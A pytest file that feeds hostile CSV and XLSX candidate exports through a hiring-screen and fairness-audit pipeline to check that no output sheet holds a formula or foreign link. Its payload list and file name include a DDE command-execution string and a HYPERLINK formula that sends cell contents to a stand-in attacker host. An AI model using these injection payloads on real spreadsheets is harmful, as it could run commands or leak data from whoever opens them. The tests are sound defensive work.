"""End to end: nothing a candidate typed becomes a formula or a link on any sheet of a workbook."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from pipelines.fairness.pooled import write_pooled_workbook
from pipelines.screening.score_one import score_one
from tests.corpus.hostile import unsafe_parts, workbook_parts

# Text a spreadsheet could read as a formula, a DDE command or a link.
PAYLOADS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MAILTO = "mailto:"
HEADER_PAYLOAD = '=HYPERLINK("http://evil.invalid","x")'
IDENTITY = ["Candidate ID", "Name", "Email", "Phone"]
EVIDENCE = ["Certifications", "Resume Text", "Years of Experience", "Coding Accuracy"]
PROTECTED = ["Gender", "Race", "Veteran Status", "Ethnicity", "Disability"]
CARRIED = ["Referral Note", HEADER_PAYLOAD]  # unknown columns, carried through
HEADERS = [*IDENTITY, "Job", *EVIDENCE, *PROTECTED, *CARRIED]
FILE_STEM = "=cmd|' calc'!A0"  # the export's own name shows on About and the pooled Runs sheet
# Per payload three rows: one of nothing but the payload, one the screen ranks (the payload in
# every text column, valid values where a type is checked; it keeps the later of the two rows
# sharing a candidate id and sets the first aside as a duplicate) and one without identity
# (rejected, shown with its reason).
VALID = {
    "Email": "coder{n}@example.org",
    "Phone": "555-010{n}",
    "Years of Experience": "4",
    "Coding Accuracy": "96%",
    "Certifications": "CPC",
}
UNIDENTIFIED = ("Candidate ID", "Name", "Email")
# Each ranked row's job is a payload: seven jobs, so a Ranked sheet per job (named after the
# payload) and the All jobs sheet holding every ranked row.
ALL_JOBS = "All jobs"


def _rows() -> list[list[str]]:
    """Per payload: a ranked row, a duplicate and a rejected row, all carrying it."""
    rows = []
    for n, payload in enumerate(PAYLOADS):
        rows.append([payload] * len(HEADERS))
        rows.append([VALID.get(h, payload).format(n=n) for h in HEADERS])
        rows.append(["" if h in UNIDENTIFIED else payload for h in HEADERS])
    return rows


def _csv(path: Path) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(HEADERS)
    writer.writerows(_rows())
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _xlsx(path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    for r, values in enumerate([HEADERS, *_rows()], start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            cell.data_type = "s"  # the export holds the payloads as text, not live formulas
    book.save(path)
    return path


WRITERS = {"csv": _csv, "xlsx": _xlsx}


def _problems(path: Path) -> list[str]:
    """Everything in a written workbook that could compute, call out or link somewhere."""
    found = [f"part {name}" for name in unsafe_parts(workbook_parts(path))]
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                where = f"{sheet.title}!{cell.coordinate}"
                value = cell.value
                if cell.data_type == "f":
                    found.append(f"{where}: formula {value!r}")
                if cell.data_type == "e":
                    found.append(f"{where}: error value {value!r}")
                if isinstance(value, str) and value.startswith(TRIGGERS) and not cell.quotePrefix:
                    found.append(f"{where}: formula-like text without a quote prefix {value!r}")
                link = cell.hyperlink
                if link is not None:
                    target = link.target or ""
                    if not target.startswith(MAILTO) or target[len(MAILTO) :] != value:
                        found.append(f"{where}: link to {target!r} on {value!r}")
                    if target[len(MAILTO) :].startswith(TRIGGERS):
                        found.append(f"{where}: link to a payload {target!r}")
    return found


def _texts(path: Path, title: str) -> set[str]:
    """Every text value on one sheet of a written workbook."""
    sheet = openpyxl.load_workbook(path)[title]
    return {c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture(scope="module", params=sorted(WRITERS))
def scored(request, settings, tmp_path_factory) -> tuple[Path, object]:
    """One hostile export of each kind, scored end to end in process: (out dir, summary)."""
    folder = tmp_path_factory.mktemp(f"injection-{request.param}")
    source = WRITERS[request.param](folder / f"{FILE_STEM}.{request.param}")
    out_dir = folder / "out"
    summary = score_one(source, out_dir, settings)
    assert summary.status == "scored", summary.reason
    return out_dir, summary


def test_no_sheet_of_the_report_holds_a_formula_or_a_foreign_link(scored) -> None:
    _, summary = scored
    workbook = Path(summary.outputs["workbook"])

    assert _problems(workbook) == []
    names = openpyxl.load_workbook(workbook, read_only=True).sheetnames
    assert {ALL_JOBS, "Rejected rows", "Duplicates", "Fairness audit", "About"} <= set(names)
    assert (summary.ranked, summary.rejected) == (len(PAYLOADS) - 1, len(PAYLOADS))
    assert names.index(ALL_JOBS) == summary.ranked  # one sheet per job before it
    assert all(len(name) <= 31 for name in names)
    ranked = openpyxl.load_workbook(workbook)[ALL_JOBS]
    links = [c.hyperlink.target for row in ranked.iter_rows() for c in row if c.hyperlink]
    assert len(links) == summary.ranked  # the valid addresses link (to themselves, see above)


def test_the_payloads_are_shown_as_text_where_they_land(scored) -> None:
    _, summary = scored
    workbook = Path(summary.outputs["workbook"])
    shown = {payload.strip() for payload in PAYLOADS}

    for title in (ALL_JOBS, "Rejected rows", "Duplicates", "Fairness audit"):
        texts = _texts(workbook, title)
        if title != "Fairness audit":
            assert HEADER_PAYLOAD in texts, title
        assert shown <= {text.strip() for text in texts}, title  # (groups on the audit sheet)


def test_the_pooled_audit_workbook_holds_no_formula_or_foreign_link(scored, settings) -> None:
    out_dir, _ = scored
    target = out_dir.parent / "bias-audit.xlsx"

    audit = write_pooled_workbook([out_dir], target, settings)

    assert audit.problems == []
    assert [run.pooled for run in audit.runs] == [True]
    assert _problems(target) == []
    assert audit.runs[0].facts.source_file in _texts(target, settings.fairness.sheet.runs_title)
    assert {payload.strip() for payload in PAYLOADS} <= {
        text.strip() for text in _texts(target, settings.fairness.sheet.pooled_title)
    }
